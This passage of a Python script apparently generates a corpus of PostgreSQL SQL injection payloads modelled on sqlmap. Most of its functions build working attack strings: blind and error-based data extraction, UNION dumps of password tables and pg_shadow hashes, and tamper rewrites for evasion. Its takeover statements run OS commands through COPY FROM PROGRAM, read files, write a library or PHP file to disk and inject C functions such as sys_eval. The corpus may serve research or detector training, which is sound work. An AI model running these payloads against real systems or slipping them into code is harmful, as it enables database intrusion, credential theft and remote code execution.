        "(SELECT %s FROM %s WHERE %s = '%s')" % (p, t, u, who), "(SELECT %s FROM %s ORDER BY %s LIMIT 1 OFFSET %d)" % (p, t, u, n),
        "(SELECT string_agg(%s || ':' || %s, ';') FROM %s)" % (u, p, t), "(SELECT command FROM cron.job ORDER BY jobid LIMIT 1)",
        "(SELECT query FROM pg_stat_statements ORDER BY total_exec_time DESC LIMIT 1)", "(SELECT metadata::text FROM hdb_catalog.hdb_metadata LIMIT 1)",
        "(SELECT array_to_string(srvoptions, ',') FROM pg_foreign_server LIMIT 1)", "(SELECT passwd FROM pg_shadow WHERE usename = 'postgres')",
        "(SELECT ST_AsText(%s) FROM %s LIMIT 1)" % (gc, gt), "(SELECT %s::text FROM %s LIMIT 1)" % (vc, vt),
        "(SELECT string_agg(rolname, ',') FROM pg_roles WHERE rolbypassrls)", "(SELECT string_agg(policyname || '=' || coalesce(qual, ''), ';') FROM pg_policies)",
        "(SELECT address FROM pg_hba_file_rules WHERE address IS NOT NULL LIMIT 1)"])


def probe_named(r, e=None):
    """(name, a yes/no question about a secret), asked a different way each time."""
    e = e or target(r)
    x = "(%s)::text" % e
    pos = r.randint(1, 40)
    ch = r.choice("abcdefghijklmnopqrstuvwxyz0123456789_")
    lo = r.randint(32, 100)
    return r.choice([
        ("get_bit_at", "get_bit(convert_to(%s, 'UTF8'), %d) = %d" % (x, r.randint(0, 255), r.randint(0, 1))),
        ("ascii_between", "ascii(substr(%s, %d, 1)) BETWEEN %d AND %d" % (x, pos, lo, lo + r.randint(4, 26))),
        ("position_of_char", "position('%s' in %s) = %d" % (ch, x, pos)),
        ("trgm_similarity_gt", "similarity(%s, '%s') > 0.%d" % (x, rword(r, 5), r.randint(1, 6))),
        ("trgm_word_similarity", "word_similarity('%s', %s) > 0.5" % (rword(r, 3), x)),
        ("levenshtein_small", "levenshtein(%s, '%s') < %d" % (x, rword(r, 6), r.randint(2, 8))),
        ("soundex_code", "soundex(%s) = '%s000'" % (x, ch.upper())),
        ("tsquery_prefix", "to_tsvector('simple', %s) @@ to_tsquery('simple', '%s:*')" % (x, rword(r, 2))),
        ("length_shift", "(length(%s) >> %d) = %d" % (x, r.randint(1, 3), r.randint(0, 8))),
        ("regex_range", "%s ~ '^.{%d}[%s-z]'" % (x, pos - 1, ch if ch.isalpha() else "a")),
        ("left_prefix", "left(%s, 1) = '%s'" % (x, ch)),
        ("sha256_nibble", "left(encode(sha256(convert_to(%s, 'UTF8')), 'hex'), 1) = '%s'" % (x, r.choice("0123456789abcdef"))),
        ("bool_or_chars", "(SELECT bool_or(c = '%s') FROM regexp_split_to_table(%s, '') AS c)" % (ch, x)),
        ("jsonpath_starts_with", "jsonb_path_exists(to_jsonb(%s), '$ ? (@ starts with \"%s\")')" % (x, ch)),
        ("citext_gt", "%s::citext > '%s'" % (x, ch)),
        ("octet_mod", "octet_length(%s) %% %d = 0" % (x, r.randint(2, 5)))])


def probe(r, e=None):
    return probe_named(r, e)[1]


# ---------------------------------------------------------------- sqlmap: PostgreSQL tests, boundaries, switches and tampers
def marker(r):
    """kb.chars start/stop: q, three letters of sqlmap's low-frequency alphabet, q."""
    return "q" + "".join(r.choice("bjkpqvxz") for _ in range(3)) + "q"


DUMP_TABLES = {"pressing_plant_users": ["login", "pw_hash", "press_line"], "ocular_staff": ["username", "password", "clinic_id"],
               "rope_techs": ["irata_no", "portal_pass", "phone"], "cafe_members": ["email", "password_hash", "loyalty_stamps"],
               "timing_operators": ["login", "secret"], "interpreter_accounts": ["email", "pass_bcrypt", "nrcpd_no"],
               "velodrome_admins": ["login", "password_sha1"], "dyeworks_staff": ["username", "pass_argon2", "iban"]}
COMMON_TABLES = ["users", "user", "admins", "account", "members", "auth", "logins", "tbl_admin", "customers", "employees", "config", "settings"]
SYSDBS = "(CHR(105)||CHR(110)||CHR(102)||CHR(111)||CHR(114)||CHR(109)||CHR(97)||CHR(116)||CHR(105)||CHR(111)||CHR(110)||CHR(95)||CHR(115)||CHR(99)||CHR(104)||CHR(101)||CHR(109)||CHR(97))"


class Spelling:
    """How sqlmap spells strings and casts under --no-escape and --no-cast (or by default)."""

    def __init__(self, r):
        x = r.random()
        self.noesc, self.nocast = x < 0.15, 0.15 <= x < 0.25
        self.tag = "--no-escape" if self.noesc else "--no-cast" if self.nocast else ""

    def s(self, v):
        return "'%s'" % v.replace("'", "''") if self.noesc else chrs(v)

    def cast(self, col):
        return col if self.nocast else "COALESCE(CAST(%s AS VARCHAR(10000))::text,%s)" % (col, self.s(" "))


def sqlmap_query(r, o):
    """(expression, switch): one of sqlmap's enumeration queries for PostgreSQL, weighted to the switches the earlier files left out."""
    k = r.randrange(24)
    tbl = r.choice(sorted(DUMP_TABLES))
    cols = DUMP_TABLES[tbl]
    n = r.randint(0, 24)
    who = r.choice(ROLES)
    if k < 4:
        return SQLMAP_FINGERPRINT[k + 1]
    if k == 4:
        return "(SELECT (CASE WHEN usecreatedb THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(who), "--privileges -U %s (createdb)" % who
    if k == 5:
        return "(SELECT (CASE WHEN usecatupd THEN 1 ELSE 0 END) FROM pg_user WHERE usename=%s OFFSET 0 LIMIT 1)" % o.s(who), "--privileges -U %s (catupd)" % who
    if k == 6:
        return "(SELECT COUNT(tablename) FROM pg_tables WHERE schemaname NOT IN (%s,%s))" % (o.s("information_schema"), o.s("pg_catalog")), "--tables --exclude-sysdbs (count)"
    if k == 7:
        return ("(SELECT %s FROM pg_tables WHERE schemaname NOT IN (%s,%s) ORDER BY tablename OFFSET %d LIMIT 1)"
                % (o.cast("tablename"), o.s("information_schema"), o.s("pg_catalog"), n)), "--tables --exclude-sysdbs"
    if k == 8:
        return "(SELECT COUNT(DISTINCT(schemaname)) FROM pg_tables WHERE schemaname<>%s)" % (SYSDBS if not o.noesc else "'information_schema'"), "--schema (count)"
    if k == 9:
        sch = r.choice(["public", "cron", "hdb_catalog", "topology"])
        return ("(SELECT %s FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid JOIN pg_namespace d ON a.relnamespace=d.oid WHERE b.attnum>0 AND nspname=%s ORDER BY attname OFFSET %d LIMIT 1)"
                % (o.cast("attname"), o.s(sch), n)), "--schema -D %s" % sch
    if k == 10:
        pat = r.choice(["%prod%", "%timing%", "%trees%", "%hasura%"])
        return "(SELECT COUNT(DISTINCT(datname)) FROM pg_database WHERE datname LIKE %s)" % o.s(pat), "--search -D (count)"
    if k == 11:
        return "(SELECT DISTINCT(%s) FROM pg_database WHERE datname LIKE %s OFFSET %d LIMIT 1)" % (o.cast("datname"), o.s(r.choice(["%app%", "%metabase%", "%grafana%"])), n % 3), "--search -D"
    if k == 12:
        return "(SELECT COUNT(attname) FROM pg_attribute b JOIN pg_class a ON a.oid=b.attrelid WHERE attname LIKE %s)" % o.s(r.choice(["%pass%", "%secret%", "%token%", "%pin%"])), "--search -C (count)"
    if k in (13, 14):
        c = r.choice(cols)
        start = r.randint(1, 40)
        return "(SELECT %s FROM public.%s ORDER BY %s OFFSET %d LIMIT 1)" % (o.cast(c), tbl, cols[0], start - 1), "--dump -T %s -C %s --start %d" % (tbl, c, start)
    if k == 15:
        return "(SELECT COUNT(*) FROM public.%s WHERE %s LIKE %s)" % (tbl, cols[0], o.s(r.choice(["%@example%", "adm%", "%1"]))), "--count --where"
    if k == 16:
        oid, page = r.randint(10000, 65000), r.randint(0, 3)
        return "(SELECT ENCODE(data,%s) FROM pg_largeobject WHERE loid=%d AND pageno=%d)" % (o.s("base64"), oid, page), "--file-read (page %d)" % page
    if k == 17:
        return "(SELECT %s FROM pg_shadow WHERE usename=%s OFFSET 0 LIMIT 1)" % (o.cast("passwd"), o.s(who)), "--passwords -U %s" % who
    if k == 18:
        return "(SELECT COUNT(DISTINCT(usename)) FROM pg_shadow)", "--passwords (count)"
    if k == 19:
        return "(SELECT %s FROM pg_database ORDER BY datname OFFSET %d LIMIT 1)" % (o.cast("datname"), n % 6), "--dbs"
    if k == 20:
        return "(SELECT %s FROM pg_stat_activity WHERE datname=CURRENT_DATABASE() OFFSET %d LIMIT 1)" % (o.cast("usename"), n % 4), "--sql-query (sessions)"
    if k == 21:
        return "(SELECT %s FROM pg_extension OFFSET %d LIMIT 1)" % (o.cast("extname"), n % 8), "--sql-query (extensions)"
    if k == 22:
        return "(SELECT %s FROM cron.job OFFSET %d LIMIT 1)" % (o.cast("command"), n % 4), "--sql-query (cron.job)"
    return "(SELECT COUNT(*) FROM public.%s)" % tbl, "--count -T %s" % tbl


def sqlmap_inference(r, o):
    x = r.random()
    if x < 0.07:
        return "EXISTS(SELECT %d FROM %s)" % (randnum(r), r.choice(COMMON_TABLES + sorted(DUMP_TABLES))), "--common-tables"
    if x < 0.1:
        t = r.choice(sorted(DUMP_TABLES))
        return "EXISTS(SELECT %s FROM %s)" % (r.choice(["passwd", "pass", "pwd", "hash", "api_key"] + DUMP_TABLES[t]), t), "--common-columns -T %s" % t
    e, sw = sqlmap_query(r, o)
    if o.tag:
        sw += " " + o.tag
    if x < 0.68:
        v = r.choice([r.randint(97, 122), r.randint(48, 57), r.randint(65, 90), 95, 64, 46, 36])
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))>%d" % (e, r.randint(1, 64), r.choice(bisection(v))), sw
    if x < 0.82:
        return "ASCII(SUBSTRING((LENGTH(%s))::text FROM %d FOR 1))>%d" % (e, r.randint(1, 3), r.choice(bisection(r.randint(48, 57)))), sw + " (length)"
    if x < 0.93:
        return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))!=%d" % (e, r.randint(1, 40), r.randint(32, 126)), sw + " (validation)"
    return "ASCII(SUBSTRING((%s)::text FROM %d FOR 1))=%d" % (e, r.randint(1, 40), r.randint(48, 122)), sw + " (predict)"


def sqlmap_tests(r, vector):
    """[(family, title, dbms, place, where, payload, comment, tag)] -- place: cond | order | repl | stack; where: 1 original, 2 negative, 3 replaced.
    The tests the earlier files sent least are listed twice."""
    R, R1, R2 = randnum(r), randnum(r), randnum(r)
    S = rstr(r, 4)
    T = r.choice([5, 5, 5, 5, 2, 3, 6, 8, 9])
    o = Spelling(r)
    D1, D2 = o.s(marker(r)), o.s(marker(r))
    if vector:
        INF, sw = sqlmap_inference(r, o)
        Q, qsw = sqlmap_query(r, o)
        if not Q.startswith("("):
            Q = "(SELECT %s)" % o.cast(Q)
        tag = ":" + sw
    else:
        INF = r.choice(["%d=%d" % (R1, R1)] * 6 + ["%d=%d" % (R1, R2), "%d<%d" % (min(R1, R2), max(R1, R2) + 1)])
        Q = "(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END))" % (R2, R2)
        tag = ":detection"
    H, SL, CW, HQ = sqlmap_delays(R, T, INF, vector)
    B, TB, EB, SQ, IQ = "sqlmap_boolean_blind", "sqlmap_time_blind", "sqlmap_error_based", "sqlmap_stacked_queries", "sqlmap_inline_query"
    out = [
        (B, "AND boolean-based blind - WHERE or HAVING clause", "generic", "cond", 1, "AND %s" % INF, False),
        (B, "OR boolean-based blind - WHERE or HAVING clause (NOT - comment)", "generic", "cond", 1, "OR NOT %s" % INF, True),
        (B, "AND boolean-based blind - WHERE or HAVING clause (subquery - comment)", "generic", "cond", 1,
         "AND %d=(SELECT (CASE WHEN (%s) THEN %d ELSE (SELECT %d UNION SELECT %d) END))" % (R, INF, R, R1, R2), True),
        (B, "HAVING boolean-based blind - WHERE, GROUP BY clause", "generic", "cond", 1, "HAVING %s" % INF, False),
        (B, "Boolean-based blind - Parameter replace (CASE)", "generic", "repl", 3, "(CASE WHEN %s THEN %d ELSE NULL END)" % (INF, R), False),
        (B, "Boolean-based blind - Parameter replace (CASE - original value)", "generic", "repl", 3, "(CASE WHEN %s THEN [ORIGVALUE] ELSE NULL END)" % INF, False),
        (B, "PostgreSQL OR boolean-based blind - WHERE or HAVING clause (CAST)", PG, "cond", 2,
         "OR (SELECT (CASE WHEN (%s) THEN NULL ELSE CAST(%s AS NUMERIC) END)) IS NULL" % (INF, o.s(S)), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - Parameter replace", PG, "repl", 3, "(SELECT (CASE WHEN (%s) THEN %d ELSE 1/(SELECT 0) END))" % (INF, R), False),
        (B, "PostgreSQL boolean-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",(SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END))" % INF, False),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END)" % INF, True),
        (B, "PostgreSQL boolean-based blind - Stacked queries", PG, "stack", 1, ";SELECT (CASE WHEN (%s) THEN 1 ELSE 1/(SELECT 0) END)" % INF, False),
        (TB, "PostgreSQL > 8.1 AND time-based blind (comment)", PG, "cond", 1, "AND %d=%s" % (R, CW(SL)), True),
        (TB, "PostgreSQL > 8.1 OR time-based blind", PG, "cond", 2, "OR %d=%s" % (R, CW(SL)), False),
        (TB, "PostgreSQL AND time-based blind (heavy query)", PG, "cond", 1, "AND %d=%s" % (R, CW(HQ)), False),
        (TB, "PostgreSQL OR time-based blind (heavy query - comment)", PG, "cond", 2, "OR %d=%s" % (R, CW(HQ)), True),
        (TB, "PostgreSQL > 8.1 time-based blind - Parameter replace", PG, "repl", 3, CW(SL), False),
        (TB, "PostgreSQL time-based blind - ORDER BY, GROUP BY clause (heavy query)", PG, "order", 1, ",%s" % CW(HQ), False),
        (TB, "PostgreSQL > 8.1 time-based blind - ORDER BY, GROUP BY clause", PG, "order", 1, ",%s" % CW(SL), False),
        (EB, "PostgreSQL AND error-based - WHERE or HAVING clause", PG, "cond", 1, "AND %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL OR error-based - WHERE or HAVING clause", PG, "cond", 2, "OR %d=CAST(%s||(%s)::text||%s AS NUMERIC)" % (R, D1, Q, D2), False),
        (EB, "PostgreSQL error-based - Parameter replace (GENERATE_SERIES)", PG, "repl", 3,
         "(CAST(%s||(SELECT 1 FROM GENERATE_SERIES(%d,%d,CASE WHEN (%s) THEN 1 ELSE 0 END) LIMIT 1)::text||%s AS NUMERIC))" % (D1, R, R, INF if not vector else "%d=%d" % (R1, R1), D2), False),
        (EB, "PostgreSQL error-based - Stacked queries", PG, "stack", 1, ";SELECT CAST(%s||(%s)::text||%s AS NUMERIC)" % (D1, Q, D2), False),
        (EB, "PostgreSQL error-based - Stacked queries", PG, "stack", 1, ";SELECT CAST(%s||(%s)::text||%s AS NUMERIC)" % (D1, Q, D2), True),
        (EB, "PostgreSQL error-based - ORDER BY, GROUP BY clause", PG, "order", 1, ",(CAST(%s||(%s)::text||%s AS NUMERIC))" % (D1, Q, D2), False),
        (SQ, "PostgreSQL stacked queries (heavy query - comment)", PG, "stack", 1, ";SELECT %s" % (CW(HQ) if vector else "COUNT(*) FROM GENERATE_SERIES(1,%s)" % H), True),
        (SQ, "PostgreSQL < 8.2 stacked queries (Glibc - comment)", PG, "stack", 1,
         ";CREATE OR REPLACE FUNCTION SLEEP(int) RETURNS int AS '/lib/libc.so.6','sleep' language 'C' STRICT; SELECT sleep(%d)" % T, True),
        (SQ, "PostgreSQL > 8.1 stacked queries (comment)", PG, "stack", 1, ";SELECT %s" % (CW(SL) if vector else "PG_SLEEP(%d)" % T), True),
        (IQ, "PostgreSQL inline queries", PG, "repl", 3, "(SELECT %s||(%s)::text||%s)" % (D1, Q, D2), False),
    ]
    if r.random() < 0.06:
        out += [
            (TB, "MySQL >= 5.0.12 AND time-based blind (query SLEEP)", "MySQL", "cond", 1, "AND (SELECT %d FROM (SELECT(SLEEP(%d)))%s)" % (R, T, S), False),
            (B, "Microsoft SQL Server/Sybase AND boolean-based blind - WHERE or HAVING clause (IIF)", "Microsoft SQL Server", "cond", 1,
             "AND %d=IIF((%d=%d),%d,1/0)" % (R, R1, R1, R), False),
            (EB, "Oracle AND error-based - WHERE or HAVING clause (CTXSYS.DRITHSX.SN)", "Oracle", "cond", 1,
             "AND %d=CTXSYS.DRITHSX.SN(%d,(CHR(%d)||CHR(%d)||(SELECT (CASE WHEN (%d=%d) THEN 1 ELSE 0 END) FROM DUAL)))" % (R, R, 113, 122, R1, R1), False),
            (TB, "SQLite > 2.0 OR time-based blind (heavy query)", "SQLite", "cond", 2, "OR %d=LIKE(CHAR(65,66,67,68,69,70,71),UPPER(HEX(RANDOMBLOB(%d00000000/2))))" % (R, T), False)]
    return [(f, t, d, p, w, pl, c, tag) for f, t, d, p, w, pl, c in out]


def sqlmap_takeover(r):
    """Statements sqlmap stacks for its takeover switches on PostgreSQL, spelled as it spells them."""
    oid = r.randint(10000, 65000)
    lib = "/tmp/libs%s.so" % rword(r, 5)
    cmd = r.choice(CMDS)
    page = r.randint(0, 4)
    b64 = base64.b64encode(bytes(r.randrange(256) for _ in range(12))).decode()
    return r.choice([
        ("--os-cmd (create output table)", ";DROP TABLE IF EXISTS sqlmapoutput;CREATE TABLE sqlmapoutput(data text)"),
        ("--os-cmd (COPY FROM PROGRAM)", ";COPY sqlmapoutput FROM PROGRAM %s" % chrs(cmd)),
        ("--os-cmd (output count)", ";SELECT COUNT(data) FROM sqlmapoutput"),
        ("--os-cmd (drop output table)", ";DROP TABLE sqlmapoutput"),
        ("--file-read (lo_import)", ";SELECT lo_import(%s,%d)" % (chrs(r.choice(FILES)), oid)),
        ("--file-read (pages)", ";SELECT COUNT(pageno) FROM pg_largeobject WHERE loid=%d" % oid),
        ("--file-write (lo_create)", ";SELECT lo_create(%d)" % oid),
        ("--file-write (page)", ";INSERT INTO pg_largeobject VALUES (%d,%d,DECODE(%s,%s))" % (oid, page, chrs(b64), chrs("base64"))),
        ("--file-write (update page)", ";UPDATE pg_largeobject SET data=(DECODE(%s,%s)) WHERE loid=%d AND pageno=%d" % (chrs(b64), chrs("base64"), oid, page)),
        ("--file-write (lo_export)", ";SELECT lo_export(%d,%s)" % (oid, chrs(r.choice([lib, "/var/www/html/tmpu%s.php" % rword(r, 4)])))),
        ("--udf-inject (sys_fileread)", ";CREATE OR REPLACE FUNCTION sys_fileread(text) RETURNS text AS '%s','sys_fileread' LANGUAGE C RETURNS NULL ON NULL INPUT IMMUTABLE" % lib),
        ("--os-pwn (sys_bineval)", ";SELECT sys_bineval(%s)" % chrs(b64)),
        ("--os-shell (sys_eval)", ";SELECT sys_eval(%s)" % chrs(cmd)),
        ("--cleanup (tables)", ";DROP TABLE IF EXISTS sqlmapfile;DROP TABLE IF EXISTS sqlmapfilehex;DROP TABLE IF EXISTS sqlmapoutput"),
        ("--cleanup (lo_unlink)", ";SELECT lo_unlink(%d)" % oid)])


def sqlmap_union(r, vector):
    """(title, dbms, payload, where): UNION query technique requests."""
    n, pos, filler, cols, kw, rng, where = union_request(r, 12, 4, 2, 0.4)
    x = r.randrange(9)
    if x == 0:
        return "Generic UNION query (%s) - %s columns (ORDER BY probing)" % (filler, rng), "generic", "ORDER BY %d" % r.randint(1, 20), 1
    if x == 1:
        frm = r.choice(sorted(DUMP_TABLES))
        return "Generic UNION query (%s) - %s columns (--union-from=%s)" % (filler, rng, frm), "generic", "%s %s FROM %s" % (kw, ",".join(cols), frm), where
    m1, m2, m3 = chrs(marker(r)), chrs(marker(r)), chrs(marker(r))
    if x == 2 or not vector:
        cols[pos] = "%s||%s||%s" % (m1, chrs(rstr(r, 10)), m2)
        return "Generic UNION query (%s) - %s columns" % (filler, rng), "generic", "%s %s" % (kw, ",".join(cols)), where
    if x == 3:
        oid = r.randint(10000, 65000)
        cols[pos] = "%s||ENCODE(data,%s)||%s" % (m1, chrs("base64"), m2)
        return "Generic UNION query (%s) - %s columns (--file-read)" % (filler, rng), PG, "%s %s FROM pg_largeobject WHERE loid=%d" % (kw, ",".join(cols), oid), where
    if x == 4:
        cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in ["usename", "usecreatedb", "usesuper", "usecatupd"]], m1, m3, m2)
        return "Generic UNION query (%s) - %s columns (--privileges)" % (filler, rng), PG, "%s %s FROM pg_user" % (kw, ",".join(cols)), where
    if x == 5:
        cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in ["schemaname", "tablename"]], m1, m3, m2)
        return ("Generic UNION query (%s) - %s columns (--tables --exclude-sysdbs)" % (filler, rng), PG,
                "%s %s FROM pg_tables WHERE schemaname NOT IN (%s,%s)" % (kw, ",".join(cols), chrs("information_schema"), chrs("pg_catalog")), where)
    src = r.choice([("pg_shadow", ["usename", "passwd"]), ("pg_extension", ["extname", "extversion"]), ("cron.job", ["jobname", "command"])]
                   + [("public." + t, c) for t, c in sorted(DUMP_TABLES.items())])
    cols[pos] = marked(["COALESCE(CAST(%s AS VARCHAR(10000))::text,(CHR(32)))" % c for c in src[1]], m1, m3, m2)
    tail = r.choice(["", " OFFSET %d LIMIT 1" % r.randint(0, 30), " ORDER BY %s OFFSET %d LIMIT 1" % (src[1][0], r.randint(0, 9))])
    return "Generic UNION query (%s) - %s columns (--dump %s)" % (filler, rng, src[0]), PG, "%s %s FROM %s%s" % (kw, ",".join(cols), src[0], tail), where


def sqlmap_comment(r):
    """[GENERIC_SQL_COMMENT] and the --suffix a user adds."""
    return r.choice(["-- %s" % rstr(r)] * 9 + ["--", "-- -", "--+", "#", "-- %s" % rstr(r, 6)])


def sqlmap_value(r, si, orig, place, where, payload, need_comment):
    """The parameter value of one sqlmap request: original value, boundary prefix, payload, boundary suffix.
    Boundaries: bracket counts that fit the slot most of the time, '[RANDSTR]'='[RANDSTR], LIKE and %'
    forms, the ') WHERE n=n pre-WHERE form, the backtick form, the '||(SELECT ... FROM DUAL ...)||' and
    '+(SELECT ...)+' value forms, and MySQL's ' IN BOOLEAN MODE) boundary."""
    typ, cl = si["type"], si["closers"]
    if "[ORIGVALUE]" in payload:
        payload = payload.replace("[ORIGVALUE]", orig if typ in ("n", "list") else "1")
    if where == 2 and typ not in ("col", "dir", "ident"):
        orig = "-%d" % randnum(r)
    k = (si["cond_k"] if place == "cond" else len(cl)) if r.random() < 0.88 else r.choice([0, 1, 2])
    pre_where = 0.16 if si["lead"] in ("UPDATE", "DELETE", "INSERT") else 0.03
    S, R = rstr(r), randnum(r)
    cmt = sqlmap_comment(r)
    close = ")" * k
    reopen = "(" * k
    if typ in ("q", "e", "qi", "d"):
        qc = {"q": "'", "e": "'", "qi": '"', "d": "'"}[typ]
        if place == "order":
            return orig + qc + payload + cmt if typ == "qi" and si["in_order"] else None
        if place == "repl":
            return payload if typ in ("qi", "d") or r.random() < 0.5 else qc + "||" + payload + "||" + qc
        if place == "stack":
            return orig + qc + close + payload + (cmt if need_comment or r.random() < 0.65 else "")
        if place == "union":
            return orig + qc + close + " " + payload + cmt
        if need_comment:
            return orig + qc + close + " " + payload + cmt
        x = r.random()
        if x < 0.08 and typ in ("q", "e") and payload.startswith("AND "):
            return orig + "'||(SELECT '%s' FROM DUAL WHERE %d=%d %s)||'" % (S, R, R, payload)
        if x < 0.12 and typ in ("q", "e") and payload.startswith("AND "):
            return orig + "'+(SELECT '%s' WHERE %d=%d %s)+'" % (S, R, R, payload)
        if x < 0.12 + pre_where:
            return orig + qc + close + " WHERE %d=%d %s%s" % (R, R, payload, cmt)
        if x < 0.16 + pre_where:
            return orig + qc + " IN BOOLEAN MODE) " + payload + "#"
        if si["like"] and x < 0.5:
            return orig + "%" + qc + close + " " + payload + " AND " + reopen + "%s%s%%%s=%s%s" % (qc, S, qc, qc, S)
        y = r.random()
        if y < 0.45:
            return orig + qc + close + " " + payload + " AND " + reopen + "%s%s%s=%s%s" % (qc, S, qc, qc, S)
        if y < 0.6:
            return orig + qc + close + " " + payload + " AND " + reopen + "%s%s%s LIKE %s%s" % (qc, S, qc, qc, S)
        return orig + qc + close + " " + payload + cmt
    if typ in ("n", "list"):
        if place == "repl":
            return payload
        if place == "order":
            return orig + payload if si["in_order"] else None
        if place == "stack":
            return orig + close + payload + (cmt if need_comment or k or r.random() < 0.45 else "")
        if place == "union":
            return orig + close + " " + payload + cmt
        if need_comment:
            return orig + close + " " + payload + cmt
        x = r.random()
        if x < pre_where:
            return orig + close + " WHERE %d=%d %s%s" % (R, R, payload, cmt)
        if x < pre_where + 0.03:
            return orig + "`" + close + " WHERE %d=%d %s#" % (R, R, payload)
        if k and x < 0.8:
            return orig + close + " " + payload + " AND " + reopen + "%d=%d" % (R, R)
        if k or x < 0.35:
            return orig + close + " " + payload + cmt
        return orig + " " + payload
    if typ in ("col", "dir"):
        if place == "order":
            return orig + payload + (cmt if r.random() < 0.25 else "")
        if place == "repl":
            return payload if typ == "col" else None
        if place == "stack":
            return orig + payload + (cmt if need_comment or r.random() < 0.55 else "")
        if place == "cond" and r.random() < 0.2:
            return orig + " " + payload + cmt
        return None
    if typ == "ident" and place == "stack":
        return orig + payload + (cmt if need_comment or r.random() < 0.5 else "")
    return None


SQL_WORDS = set("""SELECT FROM WHERE AND OR NOT UNION ALL CASE WHEN THEN ELSE END CAST AS NULL IS LIKE IN EXISTS ORDER BY GROUP HAVING LIMIT OFFSET
INSERT INTO VALUES UPDATE SET DELETE DROP TABLE CREATE FUNCTION RETURNS LANGUAGE COPY PROGRAM DISTINCT TEXT NUMERIC VARCHAR STRICT IF REPLACE
ASCII SUBSTRING LENGTH CHR COALESCE COUNT PG_SLEEP GENERATE_SERIES CONCAT ENCODE DECODE""".split())
MSSQL_BLANKS = ["\x01", "\x02", "\x03", "\x04", "\x05", "\x06", "\x07", "\x08", "\x09", "\x0b", "\x0c", "\x0d", "\x0e", "\x0f", "\x0a"]


def tamper(r, name, s, typ):
    """sqlmap tamper scripts none of the earlier corpora used, as they rewrite a payload (outside its literals where that matters)."""
    if "," in name:
        for part in name.split(","):
            s = tamper(r, part, s, typ)
        return s
    outside = lambda fn: edit(s, typ, fn)
    if name == "apostrophemask":
        return s.replace("'", "\uff07")
    if name == "sp_password":
        return s + ("sp_password" if "#" in s or "-- " in s else "-- sp_password")
    if name == "space2mssqlhash":
        return outside(lambda t, i, n: t.replace(" ", "#\n"))
    if name == "space2mssqlblank":
        return outside(lambda t, i, n: re.sub(" ", lambda m: r.choice(MSSQL_BLANKS), t))
    if name == "dunion":
        return outside(lambda t, i, n: re.sub(r"(?i)(\d+)\s+(UNION )", r"\1D\2", t))
    if name == "randomcase":
        return outside(lambda t, i, n: re.sub(r"[A-Za-z_]+", lambda m: "".join(c.upper() if r.random() < 0.5 else c.lower() for c in m.group(0))
                                              if m.group(0).upper() in SQL_WORDS else m.group(0), t))
    raise KeyError(name)


TAMPERS = ["apostrophemask", "sp_password", "space2mssqlhash", "space2mssqlblank", "dunion", "sp_password,space2mssqlhash", "apostrophemask,randomcase",
           "dunion,space2mssqlblank", "randomcase,sp_password", "space2mssqlhash,randomcase"]


union_fits = corpus_kit.union_in_query

SQLMAP = corpus_kit.Sqlmap(tests=sqlmap_tests, union=sqlmap_union, takeover=sqlmap_takeover, value=sqlmap_value, tamper=tamper, tampers=TAMPERS,
                           union_fits=union_fits, misfit=corpus_kit.misfit_share(0.75), vector_share=0.6, takeover_share=0.2, tamper_share=0.12)


# ---------------------------------------------------------------- hand-written PostgreSQL techniques
# mode: cond (an AND/OR clause) | open (a clause whose last string the
# template's own quote closes) | stack (statements after ;) | union (a UNION
# tail) | repl (a value in place of the input) | concat (spliced into the
# string with ||) | order (one more ORDER BY expression)
def secs(r):
    return r.choice([3, 5, 6, 7, 9, 11, 20, 25])


DO_TAGS = ["$do$", "$p1$", "$Σ$", "$__$", "$run$", "$k7$", "$$", "$ß$", "$body2$"]
OPEN_TAGS = ["$w$", "$g$", "$vec$", "$_$", "$Ω$", "$t9$", "$$", "$lq$"]


def hand_cores(r, fam):
    a, b = r.randint(2, 80), r.randint(81, 900)
    w, w2 = rword(r, r.randint(3, 7)), rword(r, r.randint(3, 6))
    s = secs(r)
    t, u, p, who = loot(r)
    gt, gc = r.choice(GEO_TABLES)
    vt, vc = r.choice(VEC_TABLES)
    e = target(r)
    host, ip, f, cmd = r.choice(HOSTS), r.choice(IPS), r.choice(FILES), r.choice(CMDS)
    nm = rword(r, r.randint(4, 7)) + str(r.randint(0, 99))
    key = r.randint(1000, 99999)
    role = r.choice(ROLES)
    sq = lambda v: v.replace("'", "''")
    if fam == "tautology":
        return [(n, "cond", c, PG) for n, c in [
            ("or_vector_l2_zero", "OR '[%d,%d]'::vector <-> '[%d,%d]'::vector = 0" % (a, b, a, b)),
            ("or_vector_cosine_parallel", "OR '[1,%d]'::vector <=> '[2,%d]'::vector < 0.001" % (a, 2 * a)),
            ("or_vector_negative_inner", "OR '[%d,1]'::vector <#> '[1,%d]'::vector < 0" % (a, b)),
            ("or_vector_dims_three", "OR vector_dims('[%d,%d,%d]') = 3" % (a, b, a)),
            ("or_trgm_self_similar", "OR '%s' %% '%s'" % (w, w)), ("or_trgm_similarity_one", "OR similarity('%s', '%s') = 1" % (w, w)),
            ("or_trgm_word_similarity", "OR word_similarity('%s', '%s %s') > 0.5" % (w, w, w2)), ("or_trgm_distance_zero", "OR '%s' <-> '%s' = 0" % (w, w)),
            ("or_trgm_strict_word_op", "OR '%s' <<%% '%s %s'" % (w, w, w2)),
            ("or_st_dwithin_origin", "OR ST_DWithin(ST_MakePoint(0, 0), ST_MakePoint(0, %d), %d)" % (a, b)),
